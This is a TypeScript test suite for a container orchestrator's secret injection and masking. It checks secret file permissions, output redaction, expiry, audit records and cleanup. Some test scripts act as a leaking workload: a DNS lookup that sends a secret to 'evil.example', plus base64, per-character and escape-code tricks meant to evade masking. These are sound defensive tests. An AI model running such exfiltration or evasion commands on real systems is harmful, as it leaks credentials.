/** Secrets of jobs on a real dockerd: they reach the workload, and nothing and nobody else; what is left is nothing. */
import { hash, randomBytes } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import type { JobReport, JobSpec, OrchestratorOptions, SecretParts } from "../../src/jobs/index.ts";
import type { Level } from "../../src/policy/index.ts";
import { SecretManagementSystem } from "../../src/secrets/index.ts";
import { type HeldSecret, HeldSecrets } from "../world/held-secrets.ts";
import { busyboxImage } from "../world/images.ts";
import { useJobWorld } from "../world/job-hooks.ts";
import type { JobLibrary, JobWorld } from "../world/job-world.ts";
import { filesWith, processesThatShow, waysToSee } from "../world/secret-search.ts";

let world: JobWorld;
const NEVER = new AbortController().signal;

useJobWorld((started) => {
  world = started;
});

const newValue = (): string => `s3cret'${randomBytes(18).toString("base64")}`;
const sha = (value: string | Buffer): string => hash("sha256", value);

interface Holder extends AsyncDisposable {
  readonly library: JobLibrary;
  readonly held: HeldSecrets;
  readonly injector: SecretParts["injector"];
}

async function holding(
  secrets: Readonly<Record<string, HeldSecret>>,
  options: { readonly level?: Level } & Partial<OrchestratorOptions> = {},
): Promise<Holder> {
  let held: HeldSecrets | undefined;
  let parts: SecretParts | undefined;
  const library = await world.library({
    ...options,
    secrets: (given) => {
      held = new HeldSecrets(secrets, given.jobs);
      parts = given;
      return held;
    },
  });
  await library.orchestrator.initialize();
  if (held === undefined || parts === undefined) throw new Error("nobody asked for secrets");
  return { library, held, injector: parts.injector, [Symbol.asyncDispose]: async () => await library[Symbol.asyncDispose]() };
}

interface Ran {
  readonly id: string;
  readonly report: JobReport;
  readonly output: string;
}

async function ran(
  { library }: Pick<Holder, "library">,
  script: string,
  spec: JobSpec,
  image: string = world.image,
  meanwhile?: (id: string) => Promise<void>,
): Promise<Ran> {
  let output = "";
  const id = world.newId();
  let during: Promise<void> | undefined;
  const report = await library.orchestrator.runJob(
    id,
    { repository: "acme/web", image, resources: { memory: "64MiB" } },
    { command: ["sh", "-c", script], ...spec },
    NEVER,
    {
      onOutput: ({ bytes }) => {
        output += bytes.toString();
        if (output.includes("ready\n"))
          during ??= meanwhile?.(id).finally(async () => await world.engine.containers.kill(`cofferdam-${id}`).catch(() => undefined));
      },
    },
  );
  await during;
  return { id, report, output };
}

describe("what a job gets", () => {
  test.each<[Level, string]>([
    ["low", "0"],
    ["medium", "0"],
    ["high", "65534"],
    ["paranoid", "65534"],
  ])("level %s: a file that only it reads, in memory, and nothing that it can write", async (level, uid) => {
    const value = newValue();
    await using holder = await holding({ "npm/publish": { value } }, { level });
    const script = `cd /run/secrets && stat -c '%u %a %F' NPM_TOKEN && sha256sum < NPM_TOKEN && ls && cat NPM_TOKEN && echo &&
      ! touch x 2>/dev/null && ! rm -f NPM_TOKEN 2>/dev/null && grep ' /run/secrets ' /proc/self/mountinfo | grep -o ' - tmpfs'`;
    const { report, output } = await ran(
      holder,
      script,
      { secrets: { files: { NPM_TOKEN: "npm/publish" } } },
      level === "paranoid" ? world.imageId : world.image,
    );
    expect(report.stoppedBy).toBe(undefined);
    expect(output).toBe(`${uid} 400 regular file\n${sha(value)}  -\nNPM_TOKEN\n***\n - tmpfs\n`);
    expect(report).toMatchObject({ verdict: "passed", secretsUsed: ["NPM_TOKEN"], leftBehind: [], violations: [] });
    expect(report.score?.lines.map(({ control }) => control)).not.toContain("job.secrets");
    expect(report.proof?.controls.filter(({ what }) => what === "/run/secrets")).toEqual([expect.objectContaining({ name: "mounts", ok: true })]);
    expect(holder.held.asked).toEqual([{ userId: "uid:0", jobId: report.jobId, secretId: "npm/publish", repository: "acme/web" }]);
    // Nobody keeps what was handed out.
    for (const given of holder.held.given) expect([...given].every((byte) => byte === 0)).toBe(true);
  });

  test("a user whom only the image knows by name", async () => {
    const value = newValue();
    const image = await busyboxImage(world.engine, { config: { User: "nobody" } });
    await using holder = await holding({ a: { value } });
    const { output } = await ran(holder, "stat -c '%u:%g' /run/secrets/A && sha256sum < /run/secrets/A", { secrets: { files: { A: "a" } } }, image);
    expect(output).toBe(`65534:65534\n${sha(value)}  -\n`);
  });

  test("a variable of the workload alone, where the policy accepts that; it is not process 1's", async () => {
    const value = newValue();
    world.policy("version: 1\njobs: {unscanned: accept, secret-variables: accept}\n");
    try {
      await using holder = await holding({ a: { value } });
      const script = 'printf %s "$TOKEN" | sha256sum; echo "$TOKEN"; { tr "\\0" "\\n" < /proc/1/environ; } 2>/dev/null | grep -c TOKEN; ls /run/secrets';
      const { output, report } = await ran(holder, script, { secrets: { variables: { TOKEN: "a" } } });
      expect(output).toMatch(new RegExp(`^${sha(value)}  -\\n\\*\\*\\*\\n0\\n$`));
      expect(report).toMatchObject({ secretsUsed: ["TOKEN"], secretVariables: ["TOKEN"] });
      expect(report.score?.lines.map(({ control }) => control)).toContain("job.secrets");
    } finally {
      world.policy("version: 1\njobs: {unscanned: accept}\n");
    }
  });

  test("level low accepts variables by itself", async () => {
    await using holder = await holding({ a: { value: newValue() } }, { level: "low" });
    const { report, output } = await ran(holder, 'echo "$TOKEN"', { secrets: { variables: { TOKEN: "a" } } });
    expect([report.verdict, output]).toEqual(["passed", "***\n"]);
  });

  test("from level medium on variables are refused, with the line that accepts them", async () => {
    await using holder = await holding({ a: { value: newValue() } });
    const { report } = await ran(holder, "true", { secrets: { variables: { TOKEN: "a" } } });
    expect(report).toMatchObject({
      verdict: "blocked",
      secretsUsed: [],
      stoppedBy: { code: "SECURITY_VIOLATION", hint: expect.stringContaining("secret-variables: accept") },
    });
    expect(holder.held.asked).toEqual([]);
  });

  test("what the policy gives every job of a repository, whatever the case of its name", async () => {
    const value = newValue();
    world.policy("version: 1\njobs: {unscanned: accept, secrets: {ACME/Web: {A: a}, acme/other: {B: b}}}\n");
    try {
      await using holder = await holding({ a: { value } });
      const { output, report } = await ran(holder, "ls /run/secrets; sha256sum < /run/secrets/A", {});
      expect(output).toBe(`A\n${sha(value)}  -\n`);
      expect(report.secretsUsed).toEqual(["A"]);
    } finally {
      world.policy("version: 1\njobs: {unscanned: accept}\n");
    }
  });

  test("bytes, lines, 64 KiB, and 64 of them", async () => {
    const secrets: Record<string, HeldSecret> = {
      bytes: { value: randomBytes(300) },
      big: { value: randomBytes(65_536) },
      lines: { value: "line one of it\nline two of it\n" },
    };
    for (let i = 0; i < 61; i++) secrets[`s${i}`] = { value: `value number ${i}` };
    await using holder = await holding(secrets);
    const files = Object.fromEntries(Object.keys(secrets).map((id) => [id, id]));
    const { output } = await ran(holder, "cd /run/secrets && sha256sum bytes big lines && ls | wc -l", { secrets: { files } });
    expect(output).toBe(`${["bytes", "big", "lines"].map((id) => `${sha(Buffer.from(secrets[id]?.value ?? ""))}  ${id}\n`).join("")}64\n`);
    const { report } = await ran(holder, "true", { secrets: { files: { ...files, one: "s1" } } });
    expect(report).toMatchObject({ verdict: "blocked", stoppedBy: { code: "INVALID_ARGUMENT" } });
  });
});

describe("the command line, with the secrets that it keeps", () => {
  test("put, and run with it: a file; a variable where the policy accepts that; on record; in the report", async () => {
    const value = newValue();
    const put = await world.cli(["secret", "put", "npm/publish", "--config", world.policyFile, "--repository", "acme/web"], { input: value });
    expect([put.exit, put.stderr]).toEqual([0, expect.stringContaining("npm/publish is stored")]);
    const script = ["sh", "-c", "sha256sum < /run/secrets/NPM_TOKEN; cat /run/secrets/NPM_TOKEN"];
    const file = await world.job({ command: script, options: ["--secret", "NPM_TOKEN=npm/publish"] });
    expect([file.exit, file.stdout]).toEqual([0, `${sha(value)}  -\n***`]);
    expect(file.report.secretsUsed).toEqual(["NPM_TOKEN"]);
    const page = await world.cli(["job", "report", file.report.jobId]);
    expect(page.stdout).toContain("secrets  NPM_TOKEN: masked in its output, gone afterwards\n");
    const { stdout: trail } = await world.cli(["audit", "search", "--action", "SecretRetrieved", "--json"]);
    expect(trail).toContain(`"jobId":"${file.report.jobId}"`);
    expect(trail).not.toContain(value);

    const variable = { command: ["sh", "-c", 'printf %s "$T" | sha256sum'], options: ["--secret-env", "T=npm/publish"] };
    const refused = await world.job(variable);
    expect([refused.exit, refused.stderr]).toEqual([3, expect.stringContaining("jobs: {secret-variables: accept}")]);
    world.policy("version: 1\njobs: {unscanned: accept, secret-variables: accept}\n");
    try {
      expect((await world.job(variable)).stdout).toBe(`${sha(value)}  -\n`);
    } finally {
      world.policy("version: 1\njobs: {unscanned: accept}\n");
    }
  });

  test("a secret that another repository's jobs may have: blocked with 4; one that is not there: with 2", async () => {
    await world.cli(["secret", "put", "others/key", "--config", world.policyFile, "--repository", "acme/other"], { input: newValue() });
    const { exit, stderr, report } = await world.job({ command: ["true"], options: ["--secret", "K=others/key"] });
    expect([exit, stderr]).toEqual([4, expect.stringMatching(/BLOCKED before it started: .*others\/key[\s\S]*stopped PERMISSION_DENIED\n$/)]);
    expect(report.secretsUsed).toEqual([]);
    expect((await world.job({ command: ["true"], options: ["--secret", "K=no/such"] })).exit).toBe(2);
  });
});

test("an orchestrator that is given no secrets has those of the state directory; where they take more to open, it says so", async () => {
  const value = newValue();
  await world.cli(["secret", "put", "default/one", "--config", world.policyFile], { input: value });
  const run = async (): Promise<Ran> => {
    await using library = await world.library();
    await library.orchestrator.initialize();
    return await ran({ library }, "sha256sum < /run/secrets/A", { secrets: { files: { A: "default/one" } } });
  };
  const { output, report } = await run();
  expect([report.stoppedBy, output]).toEqual([undefined, `${sha(value)}  -\n`]);
  world.policy("version: 1\njobs: {unscanned: accept}\nsecrets: {key: passphrase}\n");
  try {
    expect((await run()).report).toMatchObject({ verdict: "blocked", stoppedBy: { code: "FAILED_PRECONDITION" } });
  } finally {
    world.policy("version: 1\njobs: {unscanned: accept}\n");
  }
});

describe("what is refused", () => {
  test("a secret that is refused blocks the job: nothing of it ran, nothing is left", async () => {
    await using holder = await holding({ a: { value: newValue() } });
    const { report, output } = await ran(holder, "echo ran", { secrets: { files: { A: "a", B: "no/such" } } });
    expect(output).toBe("");
    expect(report).toMatchObject({ verdict: "blocked", leftBehind: [], stoppedBy: { code: "NOT_FOUND", message: "there is no secret no/such" } });
  });

  test("nobody who has any: FAILED_PRECONDITION", async () => {
    await using library = await world.library({ components: { secrets: false } });
    await library.orchestrator.initialize();
    const report = await library.orchestrator.runJob(
      world.newId(),
      { repository: "acme/web", image: world.image, resources: { memory: "64MiB" } },
      { command: ["true"], secrets: { files: { A: "a" } } },
      NEVER,
    );
    expect(report).toMatchObject({ verdict: "blocked", stoppedBy: { code: "FAILED_PRECONDITION", message: expect.stringContaining("asks for secrets (A)") } });
  });

  test.each<[string, JobSpec["secrets"]]>([
    ["a path as a name", { files: { "../x": "a" } }],
    ["a hidden name", { files: { ".x": "a" } }],
    ["an id that is none", { files: { A: "../a" } }],
    ["a variable that is given too", { variables: { HERE: "a" } }],
  ])("%s: INVALID_ARGUMENT before anything is made", async (_, secrets) => {
    await using holder = await holding({ a: { value: newValue() } });
    await expect(ran(holder, "true", { secrets, env: { HERE: "1" } })).rejects.toMatchObject({ code: "INVALID_ARGUMENT" });
  });

  test("a value that is too short to be masked is given, and that is said", async () => {
    await using holder = await holding({ pin: { value: "12345" } });
    const { report, output } = await ran(holder, "cat /run/secrets/PIN", { secrets: { files: { PIN: "pin" } } });
    expect(output).toBe("12345");
    expect(report.refused).toEqual(["PIN is shorter than 6 bytes, or blank: it is not masked"]);
  });

  test("a variable of a value with a NUL byte: FAILED_PRECONDITION, and no workload", async () => {
    world.policy("version: 1\njobs: {unscanned: accept, secret-variables: accept}\n");
    try {
      await using holder = await holding({ nul: { value: "with\0nul-inside" } });
      const { report, output } = await ran(holder, "echo ran", { secrets: { variables: { A: "nul" } } });
      expect([output, report.exit, report.stoppedBy?.code]).toEqual(["", undefined, "FAILED_PRECONDITION"]);
    } finally {
      world.policy("version: 1\njobs: {unscanned: accept}\n");
    }
  });
});

describe("where it is not", () => {
  test("while the job runs and afterwards: configuration, layers, commit, export, logs, the engine's disk, our own, other users", async () => {
    const [file, variable, seen] = [newValue(), newValue(), `marker${randomBytes(9).toString("hex")}`];
    world.policy("version: 1\njobs: {unscanned: accept, secret-variables: accept}\n");
    try {
      await using holder = await holding({ file: { value: file }, variable: { value: variable } });
      let looked = 0;
      const look = async (id: string): Promise<void> => {
        const container = `cofferdam-${id}`;
        for (const value of [file, variable]) {
          expect(await waysToSee(world, container, value)).toEqual([]);
          expect(await filesWith(world.docker.folder, value)).toEqual([]);
          expect(await processesThatShow(value, 54_321)).toEqual([]);
        }
        // The search finds what is there: a plain variable, and root sees the environment of the workload.
        expect(await waysToSee(world, container, seen)).toEqual(expect.arrayContaining(["inspect", "commit"]));
        expect((await filesWith(join(world.docker.folder, "data"), seen)).length).toBeGreaterThan(0);
        expect((await processesThatShow(variable, 0)).length).toBeGreaterThan(0);
        looked++;
      };
      const script = 'cat /run/secrets/FILE; echo; echo "$VARIABLE"; base64 < /run/secrets/FILE 2>/dev/null; echo ready; sleep 1000';
      const spec = { env: { MARK: seen }, secrets: { files: { FILE: "file" }, variables: { VARIABLE: "variable" } } };
      const { report, output } = await ran(holder, script, spec, world.image, look);
      expect([looked, report.exit, report.leftBehind]).toEqual([1, 137, []]);
      expect(output).toContain("***\n***\n");
      for (const value of [file, variable]) expect(await filesWith(world.docker.folder, value)).toEqual([]);
    } finally {
      world.policy("version: 1\njobs: {unscanned: accept}\n");
    }
  });

  test("a command that has the value in it: not in the report", async () => {
    const value = newValue();
    await using holder = await holding({ a: { value } });
    const { report } = await ran(holder, `: "${value}"`, { secrets: { files: { A: "a" } } });
    expect(report.command).toEqual(["sh", "-c", ': "***"']);
  });

  test("output in any form, both streams and the kept log; the audit trail and the report", async () => {
    const value = newValue();
    await using holder = await holding({ a: { value } });
    const script = `s=$(cat /run/secrets/A); printf '%s' "$s" | base64; printf '%s' "x$s" | base64 >&2; echo "$s" | sed 's/./&\\x1b[0m/g'
      for i in $(seq 1 \${#s}); do printf '%s' "$s" | cut -c$i | tr -d '\\n'; sleep 0.01; done; echo; sleep 0.3; printf '%s' "$s" | cut -c1-8 | tr -d '\\n'; sleep 0.4`;
    const { id, report, output } = await ran(holder, script, { secrets: { files: { A: "a" } } });
    expect(report.verdict).toBe("passed");
    expect(output.replace(/[A-Za-z0-9+/]{0,2}\*\*\*[A-Za-z0-9+/]{0,2}=?\n/, "***\n")).not.toContain(value.slice(0, 8));
    expect(output.split("***").length).toBeGreaterThanOrEqual(5);
    const log = readFileSync(join(world.state, "job-logs", readdirSync(join(world.state, "job-logs")).find((name) => name.includes(id)) ?? ""), "utf8");
    expect(log.length).toBe(report.log.kept);
    for (const text of [log, JSON.stringify(report)])
      for (const form of [value, Buffer.from(value).toString("base64").slice(0, 12)]) expect(text).not.toContain(form);
  });
});

test("a name that is asked for with the secret in it: neither in the report's network nor in the trail", async () => {
  const value = `s3cret${randomBytes(9).toString("hex")}`;
  await using holder = await holding({ a: { value } });
  const { report } = await ran(holder, "busybox nslookup $(cat /run/secrets/A).evil.example; true", { secrets: { files: { A: "a" } } });
  expect(JSON.stringify(report.network)).toContain("***.evil.example");
  const trail = JSON.stringify(await holder.library.audit.search({ resourceId: report.jobId }));
  expect(trail).toContain("***.evil.example");
  for (const text of [trail, JSON.stringify(report)]) expect(text).not.toContain(value);
});

test("a canary in the output, in whatever form, is a critical threat: at level medium the job is ended", async () => {
  const value = newValue();
  await using holder = await holding({ c: { value, canary: true }, a: { value: newValue() } });
  const script = "base64 < /run/secrets/A > /dev/null; cat /run/secrets/A; echo; sleep 0.2; cat /run/secrets/C | sed 's/./&\x1b[m/g'; sleep 1000";
  const { report, output } = await ran(holder, script, { secrets: { files: { A: "a", C: "c" } } });
  expect(report).toMatchObject({ verdict: "stopped", stoppedBy: { code: "SECURITY_VIOLATION" } });
  expect(report.threats.map(({ type, severity, details }) => [type, severity, details])).toEqual([["canary_seen", "critical", { where: "stdout" }]]);
  expect(output).not.toContain(value.slice(0, 7));
  // Read, and not shown: no alarm of this kind.
  const quiet = await ran(holder, "cat /run/secrets/A; sha256sum /run/secrets/C", { secrets: { files: { A: "a", C: "c" } } });
  expect(quiet.report).toMatchObject({ verdict: "passed", threats: [] });
});

describe("when its time is over", () => {
  test("the file goes while the job still runs, on record", async () => {
    await using holder = await holding({ a: { value: newValue(), validUntil: Date.now() + 1500 }, b: { value: newValue() } });
    const { output, id } = await ran(holder, "while [ -e /run/secrets/A ]; do sleep 0.05; done; ls /run/secrets", {
      secrets: { files: { A: "a", B: "b" } },
    });
    expect(output).toBe("B\n");
    const events = await holder.library.audit.search({ resourceId: id, action: "SecretTakenBack" });
    expect(events.map(({ details }) => details)).toEqual([{ repository: "acme/web", name: "A" }]);
  });

  test("a frozen container that is kept as evidence has none any more", async () => {
    await using holder = await holding({ a: { value: newValue() } }, { level: "paranoid" });
    const { orchestrator } = holder.library;
    let kept: string | undefined;
    const { report, id } = await ran(holder, "echo ready; sleep 1000", { secrets: { files: { A: "a" } } }, world.imageId, async (jobId) => {
      kept = (await world.engine.containers.inspect(`cofferdam-${jobId}`)).Id;
      await orchestrator.handleSecurityThreat({ type: "test", severity: "critical", containerId: kept, jobId, details: {} });
    });
    expect(report).toMatchObject({ verdict: "stopped", leftBehind: [{ what: expect.stringContaining("frozen") }] });
    expect(existsSync(join(world.state, "jobs", id, "secrets")) ? readdirSync(join(world.state, "jobs", id, "secrets")) : []).toEqual([]);
    await orchestrator.kill(id, "the test");
  });
});

describe("containers that others made", () => {
  test("secrets are injected between prepare and start, and at no other time, into no other container", async () => {
    const value = newValue();
    await using holder = await holding({});
    const { orchestrator } = holder.library;
    const id = world.newId();
    await orchestrator.createJobSecurityContext(id, { repository: "acme/web", image: world.image, resources: { memory: "64MiB" } });
    const secret = { secretId: "a", version: 1, value: Buffer.from(value), canary: false, text: () => value };
    const one = [{ name: "A", secretId: "a", secret }];
    const inject = async (container: string, secrets = one): Promise<void> => await holder.injector.inject(container, id, secrets);
    await expect(inject("0123456789ab")).rejects.toMatchObject({ code: "FAILED_PRECONDITION" });
    const script = "sha256sum < /run/secrets/A; stat -c %a /run/secrets/A";
    const { Id } = await world.engine.containers.create({ Image: world.imageId, Cmd: ["sh", "-c", script], HostConfig: { NetworkMode: "none" } });
    const { containerId } = await orchestrator.prepareSecureContainer(Id, id);
    await expect(inject("0123456789ab")).rejects.toMatchObject({ code: "FAILED_PRECONDITION" });
    await inject(containerId);
    await expect(inject(containerId)).rejects.toMatchObject({ code: "CONFLICT" });
    const attachment = await world.engine.containers.attach(containerId, { tty: false });
    await orchestrator.startContainer(id);
    await expect(inject(containerId)).rejects.toMatchObject({ code: "FAILED_PRECONDITION" });
    let output = "";
    for await (const { bytes } of attachment.output) output += bytes.toString();
    expect(output).toBe(`${sha(value)}  -\n400\n`);
    expect(await orchestrator.cleanupJobSecurity(id)).toMatchObject({ verdict: "passed", secretsUsed: ["A"], leftBehind: [] });
  });

  test("SecretManagementSystem.injectSecrets goes through it: all of them, or none", async () => {
    const [a, b] = [newValue(), newValue()];
    let secrets: SecretManagementSystem | undefined;
    const library = await world.library({ secrets: (parts) => (secrets = new SecretManagementSystem({ backend: "memory", ...parts })) });
    await using orchestrator = library.orchestrator;
    await orchestrator.initialize();
    if (secrets === undefined) throw new Error("nobody asked for secrets");
    await secrets.initialize();
    await secrets.storeSecret("a/one", a, { owner: "test", allow: { repositories: ["acme/web"] } });
    await secrets.storeSecret("b/two", b, { owner: "test", allow: { imageDigests: [world.imageId] } });
    const id = world.newId();
    await orchestrator.createJobSecurityContext(id, { repository: "acme/web", image: world.image, resources: { memory: "64MiB" } });
    const command = ["sh", "-c", "cd /run/secrets; ls; sha256sum < A; sha256sum < B"];
    const { Id } = await world.engine.containers.create({ Image: world.imageId, Cmd: command, HostConfig: { NetworkMode: "none" } });
    const { containerId } = await orchestrator.prepareSecureContainer(Id, id);
    await secrets.injectSecrets(containerId, id, [{ name: "A", secretId: "a/one" }]);
    const twice = [
      { name: "B", secretId: "b/two" },
      { name: "A", secretId: "b/two" },
    ];
    await expect(secrets.injectSecrets(containerId, id, twice)).rejects.toMatchObject({ code: "CONFLICT" });
    await secrets.injectSecrets(containerId, id, twice.slice(0, 1));
    const { output } = await world.engine.containers.attach(containerId, { tty: false });
    await orchestrator.startContainer(id);
    let text = "";
    for await (const { bytes } of output) text += bytes.toString();
    expect(text).toBe(`A\nB\n${sha(a)}  -\n${sha(b)}  -\n`);
    expect(await orchestrator.cleanupJobSecurity(id)).toMatchObject({ verdict: "passed", secretsUsed: ["A", "B"], leftBehind: [] });
    await expect(secrets.injectSecrets(containerId, id, [])).rejects.toMatchObject({ code: expect.stringMatching(/NOT_FOUND|INVALID_ARGUMENT/) });
    await library[Symbol.asyncDispose]();
  });

  test("one that ran before it was prepared (level low) has no mount: refused", async () => {
    await using holder = await holding({}, { level: "low" });
    const { orchestrator } = holder.library;
    const id = world.newId();
    await orchestrator.createJobSecurityContext(id, { repository: "acme/web", image: world.image, resources: { memory: "64MiB" } });
    const { Id } = await world.engine.containers.create({ Image: world.imageId, Cmd: ["sleep", "60"], HostConfig: { NetworkMode: "none" } });
    await world.engine.containers.start(Id);
    const { containerId } = await orchestrator.prepareSecureContainer(Id, id);
    const secret = { secretId: "a", version: 1, value: Buffer.from("some value"), canary: false, text: () => "some value" };
    await expect(holder.injector.inject(containerId, id, [{ name: "A", secretId: "a", secret }])).rejects.toMatchObject({
      code: "FAILED_PRECONDITION",
      message: "the container has no mount for secrets",
    });
    await orchestrator.cleanupJobSecurity(id);
    await world.engine.containers.remove(Id, { force: true });
  });
});
